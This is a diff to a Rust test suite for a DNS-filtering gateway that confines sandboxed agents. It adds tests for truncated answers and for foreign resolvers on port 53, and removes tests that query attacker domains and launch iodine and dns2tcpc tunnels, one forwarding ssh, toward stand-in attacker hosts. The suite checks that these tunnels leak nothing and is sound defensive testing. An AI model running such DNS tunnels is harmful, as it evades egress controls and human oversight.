@@ -3,17 +3,17 @@
 
 pub(crate) mod client;
 mod shares;
+mod ways_out;
 
 use std::{
     io::{Read as _, Write as _},
-    net::{IpAddr, SocketAddr, UdpSocket},
-    process::{Command, Stdio},
+    net::{IpAddr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket},
     time::{Duration, Instant},
 };
 
 use hickory_proto::{
     op::{MessageType, ResponseCode},
-    rr::{RecordType, rdata::opt::EdnsOption},
+    rr::RecordType,
 };
 use lab::{
     client::{agent, succeed},
@@ -22,12 +22,16 @@ use lab::{
     net::{AGENT, AGENT2, ATTACKER, CDN, GATEWAY, GATEWAY_V4, INTERNET, OPENAI, OTHER, PYPI},
     sandboxed, wait,
 };
+use socket2::{Domain, Socket, Type};
 
 use self::client::{
     addresses, anywhere, ask, ask_tcp, ask_udp, code, framed, query, rand, read, resolvers, socket,
     unframed,
 };
 use crate::world::{TICKET, World, get};
+
+/// How long glibc and musl wait for an answer.
+const CLIENTS_WAIT: Duration = Duration::from_secs(5);
 
 /// The usual policy, with so many queries a second for each agent.
 fn config(rate: u32) -> String {
@@ -78,104 +82,6 @@ fn a_group_resolves_the_names_of_its_own_rules_only() {
         assert_eq!(record["type"], "A");
         assert_eq!(record["server"], anywhere().ip().to_string());
     });
-}
-
-#[test]
-fn a_thousand_names_of_the_attackers_leave_no_packet_on_the_wan() {
-    sandboxed(|| {
-        let world = World::with(&config(100_000));
-        let wan = world.lab.capture(INTERNET);
-        let kinds = [
-            RecordType::A,
-            RecordType::AAAA,
-            RecordType::TXT,
-            RecordType::NULL,
-            RecordType::CNAME,
-            RecordType::MX,
-            RecordType::SRV,
-            RecordType::HTTPS,
-            RecordType::ANY,
-            RecordType::AXFR,
-        ];
-        let servers = resolvers();
-        for number in 0..1_000 {
-            let label = format!("{:04x}{number:04x}", rand());
-            let zone = [ATTACKER.name, "attacker.pypi.example", "pypi.example.attacker.example"];
-            let name = format!("{label}.{}", zone[number % zone.len()]);
-            let kind = kinds[number % kinds.len()];
-            let server = servers[number % servers.len()];
-            let asked = if number % 20 == 0 { ask_tcp } else { ask_udp };
-            let answer = asked(AGENT, server, &query(&name, kind))
-                .unwrap_or_else(|error| panic!("{server} {name} {kind}: {error}"));
-            let expected = match kind {
-                RecordType::A | RecordType::AAAA | RecordType::HTTPS => ResponseCode::NXDomain,
-                _ => ResponseCode::Refused,
-            };
-            assert_eq!(code(&answer), expected, "{name} {kind}");
-            let info = answer.edns.as_ref().and_then(|edns| edns.option(15.into()));
-            let Some(EdnsOption::Unknown(_, info)) = info else { panic!("no extended error") };
-            assert_eq!(
-                info[..2],
-                if expected == ResponseCode::NXDomain { [0, 15] } else { [0, 21] }
-            );
-        }
-        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
-        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
-        // The capture sees what there is to see.
-        ask(anywhere(), OPENAI.name, RecordType::A);
-        assert!(wan.holds("openai"));
-        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
-    });
-}
-
-#[test]
-fn tunnels_over_dns_find_nothing_to_ride_on() {
-    sandboxed(|| {
-        let world = World::with(&config(10_000));
-        let wan = world.lab.capture(INTERNET);
-        let server = ATTACKER.v4().to_string();
-        let lines = [
-            format!("iodine -f -r -P secret {server} t.attacker.example"),
-            format!("iodine -f -r -P secret -T NULL -O raw {server} t.attacker.example"),
-            "iodine -f -r -P secret -T TXT 2001:db8:f::53 t.attacker.example".to_owned(),
-            format!("dns2tcpc -c -z t.attacker.example -r ssh -l 2222 {server}"),
-            format!("dns2tcpc -c -k key -z t.attacker.example {server}"),
-        ];
-        let mut running = Vec::new();
-        for line in lines {
-            let program = line.split(' ').next().expect("a program");
-            assert!(installed(program), "{program} is missing; tests/prerequisites installs it");
-            let mut command = AGENT.command("sh");
-            command.args(["-c", &format!("exec {line}")]);
-            running.push((line, command.stdout(Stdio::null()).stderr(Stdio::null()).spawn()));
-        }
-        std::thread::sleep(Duration::from_secs(6));
-        for (line, child) in running {
-            let mut child = child.unwrap_or_else(|error| panic!("{line}: {error}"));
-            // It may have given up by itself.
-            let _ = child.kill();
-            let _ = child.wait();
-        }
-        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
-        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
-        // They did try: of the resolver that each was given.
-        for (program, server) in [("dns2tcpc", server.as_str()), ("iodine", "2001:db8:f::53")] {
-            let tried = world.gateway.audit.wait_for(|record| {
-                let name = record["name"].as_str().unwrap_or_default();
-                record["server"] == server && name.contains("attacker.example")
-            });
-            assert_eq!(tried["record"], "dns", "{program}: {tried}");
-        }
-    });
-}
-
-fn installed(program: &str) -> bool {
-    let line = format!("PATH=$PATH:/usr/sbin:/sbin command -v {program}");
-    Command::new("sh")
-        .args(["-c", &line])
-        .stdout(Stdio::null())
-        .status()
-        .is_ok_and(|it| it.success())
 }
 
 #[test]
@@ -239,6 +145,24 @@ fn what_does_not_resolve_is_told_in_time() {
         }
         let unknown = ask(anywhere(), "unknown.cdn.example", RecordType::A);
         assert_eq!(code(&unknown), ResponseCode::NXDomain);
+    });
+}
+
+#[test]
+fn an_answer_that_is_too_long_for_a_datagram_is_asked_for_in_a_stream() {
+    sandboxed(|| {
+        let world = World::usual();
+        let v4 = |last| IpAddr::from([198, 51, 100, last]);
+        let all: Vec<_> = (100..115).map(v4).chain([IpAddr::from(PYPI.v6())]).collect();
+        world.dns.script(PYPI.name, Answer::Truncated(all.clone()));
+        let told = addresses(&ask(anywhere(), PYPI.name, RecordType::A));
+        assert_eq!(told.len(), 15, "{told:?}");
+        assert!(told.iter().all(|address| all.contains(address)), "{told:?}");
+        assert_eq!(world.dns.asked().len(), 4, "each kind twice: {:?}", world.dns.asked());
+        world.dns.script(PYPI.name, Answer::Truncated(vec![PYPI.v4().into(), PYPI.v6().into()]));
+        let mut spliced = world.h1(PYPI).expect("a flow resolves it too");
+        let head = "GET /a HTTP/1.1\r\nHost: pypi.example\r\n\r\n";
+        assert_eq!(spliced.ask(head).expect("an answer").status, 200);
     });
 }
 
@@ -342,9 +266,12 @@ fn an_agent_that_asks_too_much_is_slowed_down_alone() {
         std::thread::scope(|scope| {
             for flood in &floods[..2] {
                 scope.spawn(|| {
+                    // What is measured is what it takes from the gateway, not from the machine.
+                    rustix::process::setpriority_process(None, 19).expect("a thread may be nice");
                     while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                         // Its own queue may be full, which is the flood at its most.
-                        let _ = flood.send(&message);
+                        (0..100).for_each(|_| drop(flood.send(&message)));
+                        std::thread::sleep(Duration::from_millis(5));
                     }
                 });
             }
@@ -359,7 +286,7 @@ fn an_agent_that_asks_too_much_is_slowed_down_alone() {
             stop.store(true, std::sync::atomic::Ordering::Relaxed);
         });
         assert_eq!(served, 60, "the other agent is served; slowest {slowest:?}");
-        assert!(slowest < Duration::from_secs(2), "{slowest:?}");
+        assert!(slowest < CLIENTS_WAIT, "{slowest:?}");
         let record = world
             .gateway
             .audit
@@ -439,11 +366,34 @@ fn a_reload_changes_which_names_there_are() {
 fn no_other_program_is_reached_on_port_53() {
     sandboxed(|| {
         let _world = World::usual();
-        // A resolver of the gateway's own, on loopback, is not in the way and not in reach.
-        let own = GATEWAY.enter(|| UdpSocket::bind("127.0.0.1:53"));
-        drop(own);
+        // A resolver of the gateway's own, on loopback or on the WAN, is not in the way and not in
+        // reach, whatever of its addresses an agent asks.
+        let own = ["lo", "wan0"].map(|interface| GATEWAY.enter(|| bound_to(interface)));
+        for server in resolvers() {
+            for ask in [ask_udp, ask_tcp] {
+                let answer = ask(AGENT, server, &query(OPENAI.name, RecordType::A));
+                assert_eq!(addresses(&answer.expect("an answer")).len(), 1, "{server}");
+            }
+        }
+        for (udp, tcp) in &own {
+            udp.recv(&mut [0; 512]).expect_err("a question for another program");
+            tcp.accept().map(drop).expect_err("a connection to another program");
+        }
         AGENT.connect(SocketAddr::from((GATEWAY_V4, 5353))).expect_err("not DNS");
-        let answer = ask(SocketAddr::from((GATEWAY_V4, 53)), OPENAI.name, RecordType::A);
-        assert_eq!(addresses(&answer).len(), 1);
     });
+}
+
+/// Another program's sockets on port 53 of every address, bound to an interface as systemd-resolved
+/// binds its own.
+fn bound_to(interface: &str) -> (UdpSocket, TcpListener) {
+    let any = SocketAddr::from((Ipv6Addr::UNSPECIFIED, 53)).into();
+    let [udp, tcp] = [Type::DGRAM, Type::STREAM].map(|kind| {
+        let socket = Socket::new(Domain::IPV6, kind, None).expect("a socket");
+        socket.bind_device(Some(interface.as_bytes())).expect("an interface");
+        socket.bind(&any).expect("port 53");
+        socket.set_nonblocking(true).expect("a socket");
+        socket
+    });
+    tcp.listen(8).expect("a listener");
+    (udp.into(), tcp.into())
 }
